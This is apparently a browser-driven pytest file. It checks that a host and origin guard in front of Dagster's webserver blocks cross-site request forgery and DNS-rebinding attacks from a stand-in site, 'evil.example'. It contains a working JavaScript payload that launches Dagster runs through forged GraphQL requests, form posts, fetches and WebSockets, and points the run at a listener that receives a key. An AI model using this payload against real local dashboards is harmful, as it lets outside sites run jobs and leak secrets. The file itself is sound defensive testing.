"""In Chromium: pages of other websites reach nothing behind the guard, and Dagster's UI works as without it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dagster as dg
import pytest
from dagster._core.remote_origin import InProcessCodeLocationOrigin
from dagster._core.test_utils import InProcessTestWorkspaceLoadTarget
from dagster._core.types.loadable_target_origin import LoadableTargetOrigin
from dagster._core.workspace.context import WorkspaceProcessContext
from dagster_webserver.app import create_app_from_workspace_process_context

from aperture_dagster.front_door.guard import AllowedHosts, Guard
from aperture_dagster_tests.listener import Listener, listening
from aperture_dagster_tests.ui.browser import needs_chromium, open_page
from aperture_dagster_tests.webserver import free_port, serving

pytestmark = [
    pytest.mark.ui,
    needs_chromium,
    pytest.mark.nightly(
        reason="What browsers send changes with browsers, and attacks take seconds.",
        instead="front_door/test_guard.py, with the headers that they send",
    ),
]

LAUNCHER = {"module": "aperture_dagster_tests.front_door.launcher", "class": "KeySendingLauncher"}
COORDINATOR = {"module": "dagster._core.run_coordinator", "class": "DefaultRunCoordinator"}
# As in the product; otherwise a dialog about Dagster covers the first page that is opened.
NO_DIALOG = {"nux": {"enabled": False}}
IN_THIS_PROCESS = {"run_launcher": LAUNCHER, "run_coordinator": COORDINATOR, **NO_DIALOG}

EVIL, LAN, PROXY = "evil.example", "mediabox.lan", "aperture.example.org"
NAMES = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP {LAN} 127.0.0.1, MAP {PROXY} 127.0.0.1"

CODE = """
import dagster as dg

class Server(dg.Config):
    address: str = ""

@dg.asset
def movies(config: Server) -> None:
    ...

defs = dg.Definitions([movies], jobs=[dg.define_asset_job("sync_movies", [movies])])
"""

MUTATION = """mutation { launchRun(executionParams: {
  selector: {repositoryLocationName: "aperture", repositoryName: "__repository__", jobName: "sync_movies"},
  runConfigData: "{ops: {movies: {config: {address: 'ADDRESS'}}}}"}) { __typename } }"""

ATTACK = """async ([ui, mutation, media]) => {
  const form_types = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
  const of = (kind) => mutation.replace("ADDRESS", `${media}/${kind}`);
  const address = (kind) => `${ui}/graphql?query=${encodeURIComponent(of(kind))}`;
  const json = (kind) => JSON.stringify({query: of(kind)});
  const opened = [], read = [], ends = [];
  const until = (begin) => ends.push(new Promise(begin));
  const send = (kind, url, how) => ends.push(
    fetch(url, how).then(async (answer) => { if ((await answer.text()).includes("launchRun")) read.push(kind); })
      .catch(() => {}));

  until((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = address("image"); });
  for (const type of form_types) until((done) => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "to-" + type;
    document.body.append(frame, form);
    Object.assign(form, {method: "post", action: address("form"), enctype: type, target: frame.name});
    frame.onload = done;
    form.submit();
  });
  send("get", address("get"), {mode: "no-cors"});
  send("post", address("post"), {method: "POST", mode: "no-cors"});
  send("trick", `${ui}/graphql`, {method: "POST", mode: "no-cors", body: json("trick"),
    headers: {"Content-Type": "text/plain; application/json"}});
  send("cors", `${ui}/graphql`, {method: "POST", body: json("cors"), headers: {"Content-Type": "application/json"}});
  send("report", `${ui}/report_asset_materialization/reported`, {method: "POST", mode: "no-cors"});
  until((done) => {
    const socket = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
    socket.onclose = done;
    socket.onopen = () => { opened.push("socket"); socket.close(); };
  });
  await Promise.race([Promise.all(ends), new Promise((end) => setTimeout(end, 120000))]);
  return [...opened, ...read];
}"""


class Served:
    """The same Dagster on two ports, behind the guard and without it, and where its runs send the key."""

    def __init__(self, instance: dg.DagsterInstance, guarded: int, plain: int, proxied: int, media: Listener) -> None:
        self.instance, self.guarded, self.plain, self.proxied, self.media = instance, guarded, plain, proxied, media

    def effects(self) -> set[str]:
        """Return what happened since the last call: where the key arrived, runs, reported materializations."""
        arrived = {request.split()[1].strip("/") for request in self.media.received if "key" in request}
        runs = self.instance.get_runs()
        for run in runs:
            self.instance.delete_run(run.run_id)
        reported = self.instance.get_latest_materialization_event(dg.AssetKey("reported"))
        self.instance.wipe_assets([dg.AssetKey("reported")])
        self.media.received.clear()
        return arrived | ({"run"} if runs else set()) | ({"reported"} if reported else set())


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """Serve Dagster with one asset."""
    guarded, plain, proxied = free_port(), free_port(), free_port()
    with listening() as media, dg.instance_for_test(overrides=IN_THIS_PROCESS) as instance:
        code: Path = tmp_path_factory.mktemp("code") / "code.py"
        code.write_text(CODE)
        target = LoadableTargetOrigin(python_file=str(code), attribute="defs")
        origin = InProcessCodeLocationOrigin(target, location_name="aperture")
        with WorkspaceProcessContext(instance, InProcessTestWorkspaceLoadTarget(origin)) as workspace:
            app = create_app_from_workspace_process_context(workspace)
            guard = Guard(app, AllowedHosts("127.0.0.1", [f"{LAN}:{guarded}", f"{PROXY}:{proxied}"]))
            with serving(guard, guarded), serving(app, plain):
                yield Served(instance, guarded, plain, proxied, media)


@pytest.fixture(scope="module")
def evil() -> Iterator[Listener]:
    """Serve pages of another website."""
    with listening("<!doctype html><title>Kittens</title><body></body>") as listener:
        listener.url = listener.url.replace("127.0.0.1", EVIL)
        yield listener


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Open a browser in which the names lead to this machine."""
    with open_page("about:blank", NAMES) as opened:
        yield opened.context.browser


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    """Open a page of its own; the UI keeps in the browser what it has loaded, and what it was loading at the end."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    yield context.new_page()
    context.close()


def attack(page: Any, ui: str, served: Served) -> set[str]:
    """Send all that a page can send from where the browser is; return what got through."""
    return {*page.evaluate(ATTACK, [ui, MUTATION, served.media.url])} | served.effects()


def test_a_page_of_another_website_gets_nothing_through(page: Any, evil: Listener, served: Served):
    page.goto(evil.url)
    # Otherwise this would prove nothing: Dagster's own webserver lets it all through.
    assert attack(page, f"http://127.0.0.1:{served.plain}", served) == {
        "run", "image", "form", "get", "post", "trick", "socket", "reported",
    }  # fmt: skip
    # The last one is not encrypted and not this machine, so browsers do not say which site a request is from.
    for name in ("127.0.0.1", LAN):
        page.goto(evil.url)
        assert attack(page, f"http://{name}:{served.guarded}", served) == set(), name


def test_a_name_that_was_pointed_here_gets_nothing_through(page: Any, served: Served):
    page.goto(f"http://{EVIL}:{served.plain}/server_info")
    assert {"run", "cors", "socket"} < attack(page, f"http://{EVIL}:{served.plain}", served)
    answer = page.goto(f"http://{EVIL}:{served.guarded}/server_info")
    assert answer.status == 421 and "APERTURE_UI_ALLOWED_HOSTS" in answer.text()
    assert attack(page, f"http://{EVIL}:{served.guarded}", served) == set()
